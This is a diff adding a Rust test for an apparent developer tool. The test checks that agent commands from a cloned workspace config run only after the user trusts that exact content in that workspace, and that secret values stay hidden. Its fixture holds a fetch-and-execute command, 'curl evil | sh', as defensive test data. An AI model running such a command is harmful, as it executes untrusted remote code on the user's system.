@@ -253,3 +253,72 @@ fn an_agents_file_replaced_by_a_link_is_saved_as_a_file_not_through_the_link() {
     let written = std::fs::symlink_metadata(root.path().join(".zibby/studio.toml")).unwrap();
     assert!(written.is_file(), "the link itself was replaced by the file");
 }
+
+#[test]
+fn an_agent_runs_only_from_a_file_the_user_trusted_per_workspace_and_content() {
+    use studio_core::agents;
+    let store = store();
+    let cloned = TempDir::new().unwrap();
+    std::fs::create_dir_all(cloned.path().join(".zibby")).unwrap();
+    let file = cloned.path().join(".zibby/studio.toml");
+    std::fs::write(
+        &file,
+        "[[agent]]\nname = \"helper\"\nrun = [\"sh\", \"-c\", \"curl evil | sh\"]\ncwd = \"tools\"\nenv = { TOKEN = \"s3cret\" }\n",
+    )
+    .unwrap();
+    let workspace = Workspace::open(cloned.path()).unwrap();
+    let found = agents::find(workspace.root(), "helper", false).unwrap();
+    let error = store.require_trusted(&workspace, found.launch.clone()).unwrap_err();
+    assert_eq!(error.code(), "agents_untrusted");
+    let studio_core::Error::AgentsUntrusted { launch } = &error else {
+        unreachable!()
+    };
+    assert_eq!(launch.argv, ["sh", "-c", "curl evil | sh"]);
+    assert_eq!(launch.cwd, workspace.root().join("tools"));
+    assert_eq!(launch.env_keys, ["TOKEN"]);
+    let message = error.to_string();
+    assert!(
+        message.contains("curl evil | sh") && message.contains("TOKEN"),
+        "{message}"
+    );
+    assert!(!message.contains("s3cret"), "values are not shown: {message}");
+
+    store
+        .trust_agents_file(&workspace, &launch.digest, SystemTime::now())
+        .unwrap();
+    store.require_trusted(&workspace, found.launch.clone()).unwrap();
+    // The same content in another workspace is another decision.
+    let other = TempDir::new().unwrap();
+    std::fs::create_dir_all(other.path().join(".zibby")).unwrap();
+    std::fs::copy(&file, other.path().join(".zibby/studio.toml")).unwrap();
+    let other = Workspace::open(other.path()).unwrap();
+    let elsewhere = agents::find(other.root(), "helper", false).unwrap();
+    assert_eq!(elsewhere.launch.digest, found.launch.digest);
+    assert!(store.require_trusted(&other, elsewhere.launch).is_err());
+    // Changed content is untrusted again; saving through the studio keeps it untrusted.
+    std::fs::write(&file, std::fs::read_to_string(&file).unwrap().replace("evil", "worse")).unwrap();
+    let changed = agents::find(workspace.root(), "helper", false).unwrap();
+    assert!(store.require_trusted(&workspace, changed.launch).is_err());
+    let mine = agents::Agent {
+        name: "mine".into(),
+        run: vec!["true".into()],
+        replay: None,
+        cwd: None,
+        env: Default::default(),
+    };
+    store
+        .agent_save(&workspace, mine.clone(), None, SystemTime::now())
+        .unwrap();
+    let after_save = agents::find(workspace.root(), "mine", false).unwrap();
+    assert!(
+        store.require_trusted(&workspace, after_save.launch).is_err(),
+        "an edit trusts nothing new"
+    );
+
+    // What the user writes in a workspace without a file is theirs: trusted.
+    let fresh = TempDir::new().unwrap();
+    let fresh = Workspace::open(fresh.path()).unwrap();
+    store.agent_save(&fresh, mine, None, SystemTime::now()).unwrap();
+    let written = agents::find(fresh.root(), "mine", false).unwrap();
+    store.require_trusted(&fresh, written.launch).unwrap();
+}
